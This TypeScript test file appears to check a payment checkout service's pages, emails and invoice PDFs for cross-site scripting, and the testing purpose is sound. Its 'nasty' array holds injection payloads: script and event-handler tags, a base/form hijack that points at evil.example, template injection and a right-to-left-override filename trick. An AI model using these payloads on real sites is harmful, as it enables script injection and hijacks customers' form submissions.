import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { type Browser, openBrowser, watchComplaints } from '../open-browser.ts'
import { type Counter, openCounter } from './checkout/counter.ts'
import { hostedPage, payerOf } from './checkout/payer.ts'
import { invoicePage, linkPage } from './checkout/sheets.ts'
import { textOfPages } from './invoices/read-pdf.ts'
import { endStory } from './money/books.ts'
import { succeeded } from './money/own-provider.ts'
import { referenceOf } from './money/shop.ts'

const browser: Browser | null = await openBrowser()
const options = { skip: browser === null && 'there is no Chromium, and none can be installed here' }

let counter: Counter
before(async () => {
  counter = await openCounter()
})
after(async () => {
  await browser?.close()
  await endStory(counter.service)
})

const harmless = 'Duka la Asha'
const nasty = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</title></style><svg onload=alert(1)>',
  '<base href=//evil.example><form action=//evil.example>',
  '{shop}{{7*7}}&lt;b&gt;<!--',
  '\u202Etxt.exe<meta http-equiv=refresh content=0>',
]

/** A page with what was written on it, and what is typed into its form before it is sent. */
type Written = { name: string; path: string; typed?: Record<string, string> }

/** Everything that merchants and customers can write, in every place that shows it. */
async function writeEverywhere(text: string): Promise<Written[]> {
  const { service, shop, provider } = counter
  const payer = payerOf(service)
  await counter.dress({ display_name: text })
  const query = `?lang=${encodeURIComponent(text)}&auto=${encodeURIComponent(text)}&x=${encodeURIComponent(text)}`
  const words = { description: text, reference: text, customer_name: text }
  const hosted = () =>
    hostedPage(shop, { ...words, redirect_url: `https://shop.example/?q=${encodeURIComponent(text)}` })
  const push = { method: 'USSD_PUSH', phone: '0712345678' }
  const [open, waiting, paid] = [await hosted(), await hosted(), await hosted()]
  for (const { path } of [waiting, paid]) await payer.send(path, push)
  await provider.tell(service, referenceOf(paid.id), succeeded())
  const [, receipt = ''] = /href="(\/r\/[^"?]*)/.exec((await payer.load(paid.path)).text) ?? []
  const link = await linkPage(shop, { amount: null, description: text })
  const item = { description: text, quantity: '1', unit_price: '1000.00' }
  const invoice = await invoicePage(shop, { customer_name: text, notes: text, items: [item] })
  return [
    { name: 'pay', path: open.path + query },
    { name: 'pay, wrong', path: open.path, typed: { phone: text } },
    { name: 'pay, waiting', path: waiting.path + query },
    { name: 'pay, paid', path: paid.path + query },
    { name: 'receipt', path: receipt + query },
    { name: 'link', path: link.path + query },
    { name: 'link, wrong', path: link.path, typed: { phone: text, amount: text } },
    { name: 'invoice', path: invoice.path + query },
  ]
}

/** Every element, with the names of its attributes: text changes none of it. */
const skeleton = `Array.from(document.querySelectorAll('*'), (one) =>
  one.localName + '[' + one.getAttributeNames().sort() + ']').join(' ')`

async function look(page: Page, { path, typed }: Written): Promise<string> {
  await page.goto(`${counter.service.url}${path}`)
  if (typed) {
    for (const [name, value] of Object.entries(typed)) {
      await page.locator(`#${name}`).evaluate(`(input) => input.removeAttribute('maxlength')`)
      await page.locator(`#${name}`).fill(value)
    }
    await page.locator('main form button').first().click()
    await page.locator('.wrong[role=alert]').waitFor()
  }
  return String(await page.evaluate(skeleton))
}

test(
  'in every field of every page it is text: no element, no dialog, nothing that our policy had to stop',
  options,
  async () => {
    const page = await (browser as Browser).newPage({ locale: 'en' })
    const complaints = watchComplaints(page, counter.service.url)
    const dialogs: string[] = []
    page.on('dialog', async (dialog) => {
      dialogs.push(dialog.message())
      await dialog.dismiss()
    })
    const plain = new Map<string, string>()
    for (const written of await writeEverywhere(harmless)) plain.set(written.name, await look(page, written))
    for (const text of nasty) {
      for (const written of await writeEverywhere(text)) {
        const where = `${written.name}: ${text}`
        assert.equal(await look(page, written), plain.get(written.name), where)
        const seen = String(
          await page.evaluate(
            `document.title + document.body.innerText + Array.from(document.querySelectorAll('input[type=tel]'), (one) => one.value)`,
          ),
        )
        assert.ok(seen.includes(text), where)
        const previews = await page.locator('meta[property="og:title"]').getAttribute('content')
        assert.ok(previews?.includes(text), `${where} in ${previews}`)
      }
    }
    // The browser itself remarks on the forms that were refused.
    assert.deepEqual(
      complaints.filter((one) => !one.includes('status of 422')),
      [],
    )
    assert.deepEqual(dialogs, [])
  },
)

test('in mails, messages and PDF too', options, async () => {
  const { service, shop } = counter
  for (const text of nasty) {
    await counter.dress({ display_name: text })
    const body = { customer_name: text, customer_email: 'asha@customer.test', notes: text }
    const { path } = await invoicePage(shop, body, { key: shop.sandboxKey })
    const { data } = (await shop.call('/v1/sandbox/outbox')).body
    const kept = data.items as { channel: string; subject: string | null; text: string }[]
    const own = kept.filter((one) => one.text.includes(path))
    assert.equal(own.length, 2, text)
    const [shown = ''] = text.split(/[\u202E]/).slice(-1)
    for (const one of own) assert.ok(one.text.includes(shown), `${one.channel} ${one.text}`)
    const file = await fetch(`${service.url}${path}/invoice.pdf`)
    const bytes = Buffer.from(await file.arrayBuffer())
    const printed = textOfPages(bytes).join('').replace(/\s+/g, '')
    assert.ok(printed.includes(shown.replace(/\s+/g, '')), `${text} in ${printed}`)
    assert.doesNotMatch(bytes.toString('latin1'), /\/(JS|JavaScript|OpenAction|Launch)\b/)
  }
})
